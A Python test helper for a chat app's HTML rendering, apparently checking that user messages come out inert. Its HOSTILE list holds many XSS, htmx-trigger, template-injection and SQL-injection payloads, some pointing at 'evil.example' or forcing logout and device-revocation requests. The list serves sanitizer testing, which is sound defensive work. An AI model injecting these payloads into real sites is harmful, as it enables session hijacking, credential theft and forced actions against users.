"""What people type who mean no good, and what must not come of it."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

Skeleton = list[tuple[str, list[str]]]

HOSTILE = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</bdi></span></div></li></ol><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
<script/x>alert(1)//
<!--<script>alert(1)//-->
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><?xml version="1.0"?>
<img src=x onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=`x`onerror=alert(1)>
<img/src='x'/onerror='alert(1)'/>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>">
<embed src=//evil.example/x.swf>
<link rel=stylesheet href=//evil.example/x.css>
<style>*{background:url(//evil.example)}</style>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<form action="//evil.example"><input name=password autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<marquee onstart=alert(1)>x</marquee>
<x contenteditable onblur=alert(1)>x</x>
<div style="position:fixed;inset:0">x</div>
<div hx-get="/logout" hx-trigger="load">x</div>
<a hx-post="/devices/revoke-others" hx-trigger="mouseover">x</a>
<div data-hx-delete="/chats/1" data-hx-trigger="load">x</div>
<hx-partial hx-target="body" hx-swap="innerHTML">x</hx-partial>
<template hx type="partial"><b>x</b></template>
<div hx-on:click="alert(1)" hx-ws:connect="//evil.example">x</div>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
x" hx-get="/logout" hx-trigger="load
x onclick=alert(1) y
`onmouseover=alert(1)`
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
[x](javascript:alert(1))
data:text/html;base64,PHNjcmlwdD4=
vbscript:msgbox(1)
https://example.org/"onmouseover="alert(1)
https://example.org/'onmouseover='alert(1)
https://example.org/<script>alert(1)</script>
http://javascript:alert(1)@example.org/%22%3E%3Cscript%3E
https://example.org/x?a=1&lt=2&quot;onclick=alert(1)
mailto:"><script>alert(1)</script>@example.org
*<b onclick=alert(1)>* _<i>_ ~<s>~
```<script>alert(1)</script>```
`<script>alert(1)</script>`
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
1. <img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;img src=x onerror=alert(1)&#x3E;
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{ 7 * 7 }} {% raw %} {# x #}
{{ self.__init__.__globals__ }}
${7*7} #{7*7} <%= 7*7 %>
%s%n%x {0} {nonce}
'; DROP TABLE users; --
x" y='z' <w> & © \ / ` $ {} [] () ;
'''.strip().split("\n")
HARMLESS = "Harmless"
TYPED = {
    **{tag: set[str]() for tag in ("p", "br", "b", "i", "s", "code", "blockquote", "ul", "ol")},
    "pre": {"tabindex"},
    "li": {"value"},
    "a": {"href", "target", "rel"},
}


class Page(HTMLParser):
    """What a browser would make: elements of the templates, and those inside what somebody said."""

    def __init__(self) -> None:
        super().__init__()
        self.made: list[tuple[str, dict[str, str | None]]] = []
        self.typed: list[tuple[str, dict[str, str | None]]] = []
        self.in_body = False

    @classmethod
    def of(cls, html: str) -> Page:
        page = cls()
        page.feed(html)
        page.close()
        return page

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        (self.typed if self.in_body else self.made).append((tag, dict(attrs)))
        self.in_body = self.in_body or ("class", "bubble__body") in attrs

    def handle_endtag(self, tag: str) -> None:
        self.in_body = self.in_body and tag != "div"

    def handle_comment(self, data: str) -> None:
        self.made.append((f"!--{data}", {}))

    def handle_decl(self, decl: str) -> None:
        self.made.append((f"!{decl}", {}))

    def handle_pi(self, data: str) -> None:
        self.made.append((f"?{data}", {}))

    def unknown_decl(self, data: str) -> None:
        self.made.append((f"![{data}", {}))

    @property
    def skeleton(self) -> Skeleton:
        return [(tag, sorted(attributes)) for tag, attributes in self.made]


def assert_inert(html: str, skeleton: Skeleton) -> None:
    """Nothing is there that is not there for harmless words, but the marks and links of messages."""
    page = Page.of(html)
    assert page.skeleton == skeleton
    for tag, attributes in page.typed:
        assert attributes.keys() <= TYPED[tag], tag
        assert tag != "a" or urlsplit(attributes["href"] or "").scheme in ("http", "https", "mailto")
    for _, attributes in page.made:
        for name in attributes.keys() & {"href", "src", "action", "formaction", "hx-get", "hx-post"}:
            assert (attributes[name] or "#")[0] in "/#", name
